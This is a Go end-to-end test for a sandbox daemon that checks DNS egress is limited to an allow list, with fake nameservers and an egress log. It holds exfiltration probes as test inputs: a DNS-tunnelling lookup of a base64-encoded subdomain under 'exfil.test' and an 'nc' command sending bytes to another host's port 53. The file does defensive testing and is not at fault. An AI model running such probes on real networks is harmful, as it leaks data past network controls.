package e2e

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/cubicle-dev/cubicle/sdk/go/protocol"
)

// dnsAnswer is the A record every fake nameserver gives.
const dnsAnswer = "203.0.113.7"

// serveDNS runs a nameserver on addr:53 (UDP and TCP) inside the internet
// that answers every A question with dnsAnswer. It returns the number of
// queries and TCP connections it has received.
func (in *internet) serveDNS(t testing.TB, addr string) *atomic.Int64 {
	var seen atomic.Int64
	pc := in.listenPacket(t, addr+":53")
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			seen.Add(1)
			if resp := dnsReply(buf[:n]); resp != nil {
				_, _ = pc.WriteTo(resp, from)
			}
		}
	}()
	ln := in.listen(t, addr+":53")
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			seen.Add(1)
			go func() {
				defer c.Close()
				var size [2]byte
				if _, err := io.ReadFull(c, size[:]); err != nil {
					return
				}
				q := make([]byte, binary.BigEndian.Uint16(size[:]))
				if _, err := io.ReadFull(c, q); err != nil {
					return
				}
				if resp := dnsReply(q); resp != nil {
					_, _ = c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(resp))), resp...))
				}
			}()
		}
	}()
	return &seen
}

// dnsReply answers query's A questions with dnsAnswer (nil: not a query).
func dnsReply(query []byte) []byte {
	var m dnsmessage.Message
	if err := m.Unpack(query); err != nil || m.Header.Response {
		return nil
	}
	m.Header.Response, m.Header.Authoritative = true, true
	a := [4]byte(netip.MustParseAddr(dnsAnswer).AsSlice())
	for _, q := range m.Questions {
		if q.Type == dnsmessage.TypeA {
			m.Answers = append(m.Answers, dnsmessage.Resource{
				Header: dnsmessage.ResourceHeader{Name: q.Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60},
				Body:   &dnsmessage.AResource{A: a},
			})
		}
	}
	b, err := m.Pack()
	if err != nil {
		return nil
	}
	return b
}

// TestEgressDNS: under an allow list a sandbox's DNS goes only to the
// daemon's resolver, which applies the list to names. Port 53 of any
// other host (UDP or TCP) is no channel out: nothing arrives there. A name
// outside the list is refused without being forwarded, so no query can
// tunnel data through the host's recursive resolver; allowed names resolve
// through the host's resolvers (--host-resolv-conf, which also fills the
// sandbox's resolv.conf), names the proxy pins (--egress-resolve) resolve
// as the proxy dials them, and every query is in the egress log.
func TestEgressDNS(t *testing.T) {
	for _, rt := range runtimes() {
		t.Run(rt, func(t *testing.T) { testEgressDNS(t, rt) })
	}
}

func testEgressDNS(t *testing.T, rt string) {
	in := newInternet(t)
	resolver, other := in.addr(0), in.addr(1)
	toResolver, toOther := in.serveDNS(t, resolver), in.serveDNS(t, other)
	hostResolv := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(hostResolv, []byte("nameserver "+resolver+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	d := startDaemonArgs(t, rt, "", "--host-resolv-conf", hostResolv, "--egress-resolve", "pinned.test="+in.addr(2))
	sn := readySnapshot(t, d.Client, "dns", testImage(t))
	c := d.Client
	sb := newSandbox(t, c, sn.ID, func(r *protocol.CreateSandboxRequest) {
		r.Name = "dns-" + rt
		r.ProxyConfig = json.RawMessage(`{"access_control":{"allow_list":["allowed.test","pinned.test"]}}`)
	})

	if got := mustRun(t, c, sb.Name, "cat /etc/resolv.conf"); !strings.Contains(got, "nameserver "+resolver) {
		t.Fatalf("resolv.conf = %q, want nameserver %s", got, resolver)
	}
	allowed(t, c, sb.Name, "nslookup allowed.test 2>&1", dnsAnswer)
	if toResolver.Load() == 0 {
		t.Fatal("the host's resolver saw no forwarded query")
	}
	allowed(t, c, sb.Name, "nslookup pinned.test 2>&1", in.addr(2))

	// A name outside the list never leaves the daemon.
	before := toResolver.Load()
	out, _, code := run(t, c, sb.Name, "nslookup c2vjcmv0.exfil.test 2>&1")
	if code == 0 || strings.Contains(out, dnsAnswer) {
		t.Fatalf("nslookup of a name outside the list: exit %d, %q; want failure", code, out)
	}
	if n := toResolver.Load(); n != before {
		t.Fatalf("a query for a name outside the list was forwarded (%d → %d)", before, n)
	}

	// Port 53 of another host, over UDP and TCP: nothing arrives there.
	run(t, c, sb.Name, "nslookup allowed.test "+other+" 2>&1")
	run(t, c, sb.Name, "echo raw-bytes-out | nc -w 2 "+other+" 53 2>&1")
	if n := toOther.Load(); n != 0 {
		t.Fatalf("%d queries or connections reached port 53 of %s", n, other)
	}

	req, _ := http.NewRequest("GET", d.Endpoint+"/v2/sandboxes/boxes/"+sb.Name+"/egress-log", nil)
	req.Header.Set("X-Api-Key", testKey)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var log struct {
		DNS struct {
			Allowed, Denied uint64
			Queries         []struct {
				Host    string
				Type    string
				Allowed bool
			}
		}
	}
	if err := json.NewDecoder(resp.Body).Decode(&log); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, q := range log.DNS.Queries {
		if q.Type == "A" {
			seen[q.Host+" "+fmt.Sprint(q.Allowed)] = true
		}
	}
	if !seen["allowed.test true"] || !seen["c2vjcmv0.exfil.test false"] || log.DNS.Denied == 0 {
		t.Fatalf("egress log's DNS: %+v", log.DNS)
	}
}
